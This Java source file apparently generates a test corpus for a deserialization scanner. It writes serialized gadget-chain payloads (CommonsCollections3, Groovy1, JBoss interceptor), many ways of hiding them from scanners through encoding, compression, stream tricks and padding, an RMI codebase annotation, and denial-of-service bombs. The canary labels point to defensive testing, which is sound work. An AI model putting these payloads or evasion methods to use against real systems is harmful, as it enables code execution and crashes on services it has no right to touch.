import java.io.*;
import java.nio.charset.StandardCharsets;
import java.util.*;
import java.util.zip.*;

/** The same payload in places and forms where a scanner may not look, and streams that exhaust their reader. */
final class Places extends Kit {
    static final String CC3 = Hostile.CC3;

    static Object payload() throws Exception {
        return map(Hostile.tied(CC3, Hostile.lazy(CC3, Hostile.exec(CC3)), "k"), 1);
    }

    static void add(String name, byte[] content, String steps, String technique) throws IOException {
        save("java/" + name, content, "technique", technique, "gives", "execute", "canary", "file", "steps", steps);
    }

    static byte[] join(byte[]... parts) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        for (byte[] p : parts) b.writeBytes(p);
        return b.toByteArray();
    }

    /** Writes streams that ObjectOutputStream does not. */
    static final class Raw extends DataOutputStream {
        final ByteArrayOutputStream bytes;

        Raw() throws IOException {
            this(new ByteArrayOutputStream());
            writeInt(0xaced0005);
        }

        private Raw(ByteArrayOutputStream b) {
            super(b);
            bytes = b;
        }

        Raw desc(String name, long uid, int flags, String... fields) throws IOException {
            writeByte(0x72);
            writeUTF(name);
            writeLong(uid);
            writeByte(flags);
            writeShort(fields.length);
            for (String f : fields) {
                String[] part = f.split(" ");
                writeByte(part[0].charAt(0));
                writeUTF(part[1]);
                if (part.length > 2) {
                    writeByte(0x74);
                    writeUTF(part[2]);
                }
            }
            writeByte(0x78);
            return this;
        }

        Raw utf(String s) throws IOException {
            writeUTF(s);
            return this;
        }

        Raw put(int... b) throws IOException {
            for (int x : b) writeByte(x);
            return this;
        }

        /** Objects as another writer wrote them. Their handles count from the beginning, so nothing may come before. */
        Raw objects(byte[] stream) throws IOException {
            write(stream, 4, stream.length - 4);
            return this;
        }

        Raw parts(byte[] b) throws IOException {
            write(b);
            return this;
        }

        byte[] done() { return bytes.toByteArray(); }
    }

    static void main() throws Exception {
        byte[] p = bytes(payload());
        add("place-offset.bin", join(new byte[] {1, 2, 3, (byte) 0xac, (byte) 0xed, 0, 5, 9}, p, new byte[] {0, 1, 2}), "carve 8", "the stream begins far into a file of other bytes, behind a false magic");
        add("place-base64.json", ("{\"model\": \"x\", \"state\": \"" + Base64.getEncoder().encodeToString(p) + "\"}").getBytes(), "base64at rO0AB", "the stream in base64, in JSON");
        add("place-base64url.txt", ("token=" + Base64.getUrlEncoder().withoutPadding().encodeToString(p) + "\n").getBytes(), "base64at rO0AB", "the stream in base64url without padding");
        add("place-base64-lines.txt", ("state:\n" + Base64.getMimeEncoder().encodeToString(p) + "\n").getBytes(), "base64at rO0AB", "the stream in base64 of many lines");
        StringBuilder hex = new StringBuilder();
        for (byte b : p) hex.append(String.format("%02X", b));
        add("place-hex.txt", ("blob = 0x" + hex + "\n").getBytes(), "hex 9", "the stream in hexadecimal digits");
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        try (GZIPOutputStream g = new GZIPOutputStream(b)) {
            g.write(p);
        }
        add("place-gzip.ser.gz", b.toByteArray(), "gzip", "the stream in gzip");
        add("place-base64-gzip.txt", ("state: " + Base64.getEncoder().encodeToString(b.toByteArray()) + "\n").getBytes(), "base64at H4sI > gzip", "the stream in gzip in base64");
        b = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(b)) {
            ZipEntry e = new ZipEntry("model/weights.bin");
            e.setTime(0);
            z.putNextEntry(e);
            z.write(p);
        }
        add("place-zip.zip", b.toByteArray(), "zip model/weights.bin", "the stream in a zip");
        add("place-bytes.ser", bytes(new ArrayList<>(List.of("safe", p))), "javamagic 1", "the stream in the byte array of a harmless stream");
        add("evasion-second-object.ser", bytes(new ArrayList<>(List.of(1)), "safe", payload()), "", "two harmless objects come first");
        add("evasion-second-stream.ser", join(bytes("safe"), p), "javamagic 1", "a second stream behind a harmless first one");
        b = new ByteArrayOutputStream();
        try (ObjectOutputStream o = new ObjectOutputStream(b)) {
            o.writeLong(1);
            o.writeUTF("header");
            o.writeObject("safe");
            o.reset();
            o.writeObject(payload());
        }
        add("evasion-blocks-and-reset.ser", b.toByteArray(), "", "primitive data, a string and a reset come first");
        add("evasion-broken-after.ser", join(p, new byte[] {(byte) 0xff, (byte) 0xff}), "", "the stream breaks right after the payload");
        byte[] cut = bytes(new Object[] {payload(), "x".repeat(500)});
        add("evasion-truncated.ser", Arrays.copyOf(cut, cut.length - 300), "", "the stream ends too early, when the payload has run");
        add("evasion-exception.ser", new Raw().put(0x7b).objects(p).done(), "", "the payload is the exception that broke the writer off (TC_EXCEPTION)");
        add("evasion-long-string.ser", longStrings(p), "", "the name of the method stands in a TC_LONGSTRING");
        Object[] pad = new Object[3000];
        for (int i = 0; i < pad.length; i++) pad[i] = "p" + i % 10;
        add("evasion-padding.ser", bytes(new Object[] {pad, new long[2000], payload()}), "", "thousands of harmless objects come first");
        add("evasion-unknown-class.ser", new Raw().put(0x73).desc("no.such.Model", 1, 2, "L state Ljava/lang/Object;").put(0x70).parts(after(3)).done(), "",
            "the payload is in a field of a class that the reader does not have: it is read all the same");
        add("evasion-extra-superclass.ser", new Raw().put(0x73).desc("java.util.ArrayList", 8683452581122892189L, 3, "I size").desc("no.such.Base", 1, 2, "L hidden Ljava/lang/Object;").put(0x70)
            .parts(after(4)).put(0, 0, 0, 0, 0x77, 4, 0, 0, 0, 0, 0x78).done(), "", "the payload is the field of a superclass that the class does not have");
        add("evasion-class-annotation.ser", new Raw().put(0x73, 0x72).utf("java.util.Date").put(0x68, 0x6a, 0x81, 1, 0x4b, 0x59, 0x74, 0x19, 3, 0, 0).parts(after(1)).put(0x78, 0x70, 0x77, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0x78).done(),
            "", "the payload annotates a class descriptor");
        add("evasion-left-over.ser", new Raw().put(0x73).desc("java.util.ArrayList", 8683452581122892189L, 3, "I size").put(0x70, 0, 0, 0, 0, 0x77, 4, 0, 0, 0, 0).parts(after(2)).put(0x78).done(), "",
            "the payload comes behind what readObject reads: it is read and thrown away");
        codebase();
        bare();
        exhausting();
    }

    /** The payload as it is written behind so many handles. */
    static byte[] after(int handles) throws Exception {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        ObjectOutputStream o = new ObjectOutputStream(b);
        for (int i = 0; i < handles; i++) o.writeObject("h" + i);
        o.flush();
        int n = b.size();
        o.writeObject(payload());
        o.flush();
        byte[] all = b.toByteArray();
        return Arrays.copyOfRange(all, n, all.length);
    }

    /** Rewrites the string "exec" with a length of eight bytes. */
    static byte[] longStrings(byte[] p) {
        String s = new String(p, StandardCharsets.ISO_8859_1);
        return s.replace("t\0\4exec", "|\0\0\0\0\0\0\0\4exec").getBytes(StandardCharsets.ISO_8859_1);
    }

    static void codebase() throws IOException {
        save("java/codebase-annotation.ser", new Raw().put(0x73, 0x72).utf("weir.Remote").put(0, 0, 0, 0, 0, 0, 0, 1, 2, 0, 0, 0x74).utf("http://127.0.0.1:9/classes/").put(0x78, 0x70).done(),
            "technique", "a class annotated with the URL that RMI loads it from", "gives", "network", "canary", "none", "accepted_by", "RMI's MarshalInputStream, with java.rmi.server.useCodebaseOnly=false (the default until 7u21)");
    }

    static long uid(String name) throws Exception {
        return ObjectStreamClass.lookup(type(name)).getSerialVersionUID();
    }

    /** Classes that cannot be made here: their own writeObject or initialiser refuses on this JDK. */
    static void bare() throws Exception {
        for (String pkg : new String[] {"org.jboss.interceptor", "org.jboss.weld.interceptor"}) {
            String name = pkg + ".proxy.InterceptorMethodHandler";
            save("java/" + (pkg.contains("weld") ? "weld" : "jboss") + "-interceptor.ser", new Raw().put(0x73)
                .desc(name, uid(name), 3, "L targetInstance Ljava/lang/Object;").put(0x70, 0x70, 0x78).done(),
                "technique", "InterceptorMethodHandler.readObject runs an interceptor by its name", "gives", "execute", "canary", "none", "accepted_by", "JDK 17: resolved and made");
        }
        Raw r = new Raw().put(0x73).desc("java.util.PriorityQueue", -7720805057305804111L, 3, "I size", "L comparator Ljava/util/Comparator;").put(0x70, 0, 0, 0, 2);
        r.put(0x73, 0x7d, 0, 0, 0, 1).utf("java.util.Comparator").put(0x78).desc("java.lang.reflect.Proxy", -2222568056686623797L, 2, "L h Ljava/lang/reflect/InvocationHandler;").put(0x70);
        r.put(0x73).desc("org.codehaus.groovy.runtime.ConvertedClosure", 1162833713450835227L, 2, "L methodName Ljava/lang/String;")
            .desc("org.codehaus.groovy.runtime.ConversionHandler", 1162833717190835227L, 2, "L delegate Ljava/lang/Object;").put(0x70);
        r.put(0x73).desc("org.codehaus.groovy.runtime.MethodClosure", -8014094022512155139L, 2, "L method Ljava/lang/String;")
            .desc("groovy.lang.Closure", 4368710879820278874L, 2, "L delegate Ljava/lang/Object;", "L owner Ljava/lang/Object;").put(0x70);
        r.put(0x70, 0x74).utf(Hostile.TOUCH).put(0x74).utf("execute").put(0x74).utf("compare").put(0x77, 4, 0, 0, 0, 3, 0x74).utf("a").put(0x74).utf("b").put(0x78);
        save("java/groovy-closure.ser", r.done(), "technique", "Groovy1: a comparator that is a ConvertedClosure of MethodClosure(command, execute)", "gives", "execute", "canary", "none",
            "accepted_by", "Groovy up to 2.4.3, which needs a JDK up to 13: not to be had here");
    }

    static void crash(String name, byte[] b, String technique) throws IOException {
        save("java/" + name + ".ser", b, "technique", technique, "gives", "crash", "canary", "crash");
    }

    static void exhausting() throws Exception {
        Set<Object> root = new HashSet<>(), s1 = root, s2 = new HashSet<>();
        for (int i = 0; i < 40; i++) {
            Set<Object> t1 = new HashSet<>(), t2 = new HashSet<>();
            t1.add("x");
            hashSet((HashSet<Object>) s1, t1, t2);
            hashSet((HashSet<Object>) s2, t1, t2);
            s1 = t1;
            s2 = t2;
        }
        crash("bomb-hash-sets", bytes(root), "SerialDOS: nested HashSets whose hash takes two to the power of their depth");
        crash("bomb-array", new Raw().put(0x75).desc("[J", 0x782004b512b17593L, 2).put(0x70, 0x7f, 0xff, 0xff, 0xf0).done(), "an array of 16 GiB in 40 bytes");
        crash("bomb-array-list", new Raw().put(0x73).desc("java.util.ArrayList", 8683452581122892189L, 3, "I size").put(0x70, 0x7f, 0xff, 0xff, 0xf0, 0x77, 4, 0, 0, 0, 0, 0x78).done(),
            "an ArrayList that claims two thousand million elements");
        crash("bomb-hash-map", new Raw().put(0x73).desc("java.util.HashMap", 362498820763181265L, 3, "F loadFactor", "I threshold").put(0x70, 0x3f, 0x40, 0, 0, 0, 0, 0, 12)
            .put(0x77, 8, 0, 0, 0, 16, 0x3f, 0xff, 0xff, 0xff, 0x74).utf("k").put(0x74).utf("v").put(0x78).done(), "a HashMap that claims a thousand million entries");
        crash("bomb-array-deque", new Raw().put(0x73).desc("java.util.ArrayDeque", 2340985798034038923L, 3).put(0x70, 0x77, 4, 0x7f, 0xff, 0xff, 0, 0x78).done(), "an ArrayDeque that claims two thousand million elements");
        Raw deep = new Raw().put(0x75).desc("[Ljava.lang.Object;", -8012369246846506644L, 2).put(0x70, 0, 0, 0, 1);
        for (int i = 0; i < 6000; i++) deep.put(0x75, 0x71, 0, 0x7e, 0, 0, 0, 0, 0, 1);
        crash("bomb-depth", deep.put(0x70).done(), "arrays nested six thousand deep: the reader's stack overflows");
    }
}
